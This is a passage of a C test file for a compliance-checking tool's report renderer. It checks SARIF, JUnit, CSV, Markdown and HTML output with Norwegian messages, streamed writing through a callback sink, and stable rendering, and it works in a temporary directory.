  HAS(s, "\"fail\": 0,\n        \"error\": 2,\n");
  free(s);
  s = render(r, CK_REPORT_SARIF, CK_STATUS_FAIL);
  HAS(s, "\"executionSuccessful\": false,");
  INT_EQ(count(s, "\"associatedRule\""), 2, "a notification per rule in error");
  /* a criterion that could not be judged comes last in what to fix: rank 20 */
  HAS(s, "\"level\": \"error\",\n          \"rank\": 20,\n          \"message\": {\n"
         "            \"text\": \"Grense:");
  free(s);
  s = render(r, CK_REPORT_JUNIT, CK_STATUS_FAIL);
  HAS(s, "<testsuites name=\"circheck\" tests=\"4\" failures=\"0\" errors=\"2\">");
  HAS(s, "<error message=\"Grense: kunne ikke vurderes");
  free(s);
  s = render(r, CK_REPORT_CSV, CK_STATUS_FAIL);
  HAS(s, "\"gamma.limit-repair\",\"lifetime.repair\",\"error\",\"pattern-limit\",");
  free(s);
  s = render(r, CK_REPORT_MD, CK_STATUS_FAIL);
  HAS(s, "| \u2757 Feil |\n|:---|---:|---:|---:|---:|\n");
  HAS(s, "#### Reparasjon og reparerbarhet \u2014 \u2757 Feil\n");
  free(s);
  s = render(r, CK_REPORT_HTML, CK_STATUS_FAIL);
  HAS(s, "<span class=\"badge error\"><span aria-hidden=\"true\">!</span> Feil</span>");
  HAS(s, "<article class=\"finding error\"");
  free(s);
  ck_report_free(r);
  ck_ruleset_free(rs);
}

/* A sink that keeps what it is given, counts the pieces, and refuses the
   piece numbered 'refuse' (0: none). */
typedef struct collected {
  ck_buf all;
  size_t pieces, refuse;
} collected;

static bool collect(void *ctx, const char *data, size_t len) {
  collected *c = ctx;
  c->pieces++;
  if (c->pieces == c->refuse)
    return false;
  ck_buf_put(&c->all, data, len);
  return true;
}

/* ck_report_write hands on, in pieces, exactly what ck_report_render
   returns, on one thread or several; a sink that refuses stops it. */
static void test_report_write(const ck_ruleset *rs) {
  ck_check_options o = ck_check_options_default();
  o.msg_lang_set = true;
  o.msg_lang = CK_MSG_NB;
  ck_report *r = ck_report_new(rs, &o);
  enum { COPIES = 400 };
  char *files[COPIES];
  for (size_t i = 0; i < COPIES; i++)
    files[i] = "doc.txt";
  ck_diags d = CK_DIAGS_INIT;
  INT_EQ(ck_report_check_files(r, files, COPIES, 2, &d), CK_OK, "check 400 copies");
  ck_diags_free(&d);
  for (int f = 0; f < CK_REPORT_FORMAT_COUNT; f++)
    for (unsigned jobs = 1; jobs <= 3; jobs += 2) {
      ck_render_options ro = {.fail_on = CK_STATUS_FAIL, .jobs = jobs};
      size_t len;
      char *whole = ck_report_render(r, (ck_report_format)f, &ro, &len);
      collected c = {.all = CK_BUF_INIT};
      OK(ck_report_write(r, (ck_report_format)f, &ro, collect, &c), "write %s",
         ck_report_format_name((ck_report_format)f));
      OK(c.all.len == len && memcmp(ck_buf_cstr(&c.all), whole, len) == 0,
         "%s on %u threads: written as rendered (%zu and %zu bytes)",
         ck_report_format_name((ck_report_format)f), jobs, c.all.len, len);
      /* A piece is about a megabyte: more pieces for a larger report. */
      OK(c.pieces >= 1 + len / (2u << 20) && c.pieces <= 1 + len / (1u << 20),
         "%s: %zu pieces for %zu bytes", ck_report_format_name((ck_report_format)f), c.pieces,
         len);
      ck_buf_free(&c.all);
      if (f == CK_REPORT_JSON) {
        OK(len > (2u << 20), "the JSON report is large enough to come in pieces");
        collected refusing = {.all = CK_BUF_INIT, .refuse = 1};
        OK(!ck_report_write(r, CK_REPORT_JSON, &ro, collect, &refusing),
           "a refused piece fails the write");
        INT_EQ(refusing.pieces, 1, "nothing is handed on after a refusal");
        ck_buf_free(&refusing.all);
      }
      free(whole);
    }
  ck_report_free(r);
}

int main(void) {
  char dir[] = "/tmp/ck-render-XXXXXX";
  if (!mkdtemp(dir) || chdir(dir) != 0) {
    perror("temporary folder");
    return 1;
  }
  write_file("alpha.xml", alpha_xml);
  write_file("beta.xml", beta_xml);
  write_file("doc.txt", doc_txt);
  write_file("gamma.xml", gamma_xml);
  write_file("limit.txt", limit_txt);

  test_escaping();
  test_printable();
  test_catalogue();
  test_lang_names();
  ck_ruleset *rs = load();
  test_empty_report(rs);
  test_clause_fill(rs);
  test_report_write(rs);

  ck_report *nb = check(rs, CK_MSG_NB, NULL, 0);
  ck_report *en = check(rs, CK_MSG_EN, NULL, 0);
  const char *only_alpha[] = {"alpha"};
  ck_report *forced = check(rs, CK_MSG_EN, only_alpha, 1);
  INT_EQ(nb->docs[0]->counts[CK_STATUS_PARTIAL], 2, "two partial results");
  INT_EQ(nb->docs[0]->counts[CK_STATUS_FAIL], 1, "one fail: alpha's take-back gives way to beta's");
  test_sarif(nb, en);
  test_junit(nb, forced);
  test_csv(nb);
  test_md(nb);
  test_html(nb);
  test_lots_and_findings(nb);
  test_pattern_limit();

  /* The same report renders to the same bytes every time. */
  for (int f = 0; f < CK_REPORT_FORMAT_COUNT; f++) {
    ck_render_options ro = {.fail_on = CK_STATUS_FAIL};
    size_t alen, blen;
    char *a = ck_report_render(nb, (ck_report_format)f, &ro, &alen);
    char *b = ck_report_render(nb, (ck_report_format)f, &ro, &blen);
    OK(alen == blen && memcmp(a, b, alen) == 0, "%s output is stable",
       ck_report_format_name((ck_report_format)f));
    OK(a[0] != '\0', "%s output is not empty", ck_report_format_name((ck_report_format)f));
    free(a);
    free(b);
  }

  ck_report_free(nb);
  ck_report_free(en);
  ck_report_free(forced);
  ck_ruleset_free(rs);
  unlink("alpha.xml");
  unlink("beta.xml");
  unlink("doc.txt");
  unlink("gamma.xml");
  unlink("limit.txt");
  if (chdir("/") == 0)
    rmdir(dir);
  return ck_test_report();
}
